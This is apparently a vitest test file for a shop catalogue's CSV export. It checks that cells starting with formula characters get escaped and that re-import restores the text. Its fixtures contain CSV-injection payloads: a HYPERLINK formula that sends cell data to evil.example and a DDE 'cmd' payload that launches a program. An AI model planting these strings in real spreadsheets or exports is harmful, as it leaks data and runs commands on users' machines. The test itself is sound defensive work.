import { beforeAll, describe, expect, it } from 'vitest';
import { readCsv } from '../src/use-cases/catalog-import/csv.ts';
import { loginAs, loginOwner, type AdminClient } from './support/admin-client.ts';
import { catalogueVersionOf, importAs } from './support/imports.ts';
import { useTestApi } from './support/test-api.ts';

const api = useTestApi();
let catalogue: AdminClient;
const catalogueVersion = () => catalogueVersionOf(api);
const importFile = (body: string | Uint8Array, query?: string, contentType?: string) =>
  importAs(catalogue, body, query, contentType);

beforeAll(async () => {
  catalogue = await loginAs(api, await loginOwner(api), 'catalogue');
});

describe('formulas in the export (issue 29, defect 6)', () => {
  const FORMULAS = [
    {
      sku: 'FORMEL-LANK',
      name: '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
      description: '\tindragen text',
      meta_title: '@SUM(A1:A9)',
      stock: { qty: -3 },
    },
    { sku: 'FORMEL-PLUS', name: '+SUM(1;2)', description: '\rvagnretur först', meta_title: '-2+3' },
    { sku: 'FORMEL-MINUS', name: "-2+3+cmd|' /C calc'!A0", description: '-', meta_title: null },
    { sku: 'FORMEL-CITAT', name: "'=redan citerad", description: "'inte en formel", meta_title: "''@två" },
  ];
  /** What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection"). */
  const LIVE = /^[=+\-@\t\r]/;

  it('writes no cell a spreadsheet would run, keeps negative stock a number, and re-import restores the text', async () => {
    const created = await importFile(
      JSON.stringify(
        FORMULAS.map(({ stock, ...product }) => ({
          ...product,
          type_id: 'simple',
          tax_class_id: 2,
          price: 100,
          url_key: product.sku.toLowerCase(),
          ...(stock ? { stock } : {}),
        })),
      ),
      'file_name=formler.json',
      'application/json',
    );
    expect(created.rejections).toEqual([]);
    expect(created.created).toBe(FORMULAS.length);

    const response = await fetch(`${api.baseUrl}/api/admin/exports/catalogue.csv`, {
      headers: { cookie: [...catalogue.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(response.status).toBe(200);
    const text = await response.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klicka"")"`);
    const [header, ...records] = readCsv(text).map((r) => r.fields);
    const numeric = new Set(['status', 'visibility', 'price', 'special_price', 'weight', 'qty']);
    for (const record of records)
      record.forEach((cell, i) => {
        if (numeric.has(header![i]!) && /^-?\d+(\.\d+)?$/.test(cell)) return;
        expect(cell, `${record[0]}: ${header![i]}`).not.toMatch(LIVE);
      });
    const row = (sku: string) => {
      const cells = records.find((r) => r[0] === sku)!;
      return Object.fromEntries(header!.map((h, i) => [h, cells[i]]));
    };
    expect(row('FORMEL-LANK')).toMatchObject({
      name: `'${FORMULAS[0]!.name}`,
      description: "'\tindragen text",
      meta_title: "'@SUM(A1:A9)",
      qty: '-3',
    });
    expect(row('FORMEL-PLUS')).toMatchObject({ name: "'+SUM(1;2)", meta_title: "'-2+3" });
    expect(row('FORMEL-MINUS')).toMatchObject({ name: `'${FORMULAS[2]!.name}`, description: "'-" });
    // A text that begins with a quote and a formula character gets one quote more, so it reads back as it was.
    expect(row('FORMEL-CITAT')).toMatchObject({
      name: "''=redan citerad",
      description: "'inte en formel",
      meta_title: "'''@två",
    });

    const version = await catalogueVersion();
    const again = await importFile(text, 'file_name=export.csv');
    expect(again.rejections).toEqual([]);
    expect(again).toMatchObject({ status: 'done', created: 0, updated: 0, rejected: 0 });
    expect(await catalogueVersion()).toBe(version);
    const stored = await api.handle.db
      .selectFrom('products')
      .select(['sku', 'name', 'description', 'meta_title'])
      .where('sku', 'like', 'FORMEL-%')
      .orderBy('sku')
      .execute();
    expect(stored).toEqual(
      FORMULAS.map(({ sku, name, description, meta_title }) => ({ sku, name, description, meta_title })).sort(
        (a, b) => (a.sku < b.sku ? -1 : 1),
      ),
    );
  });
});
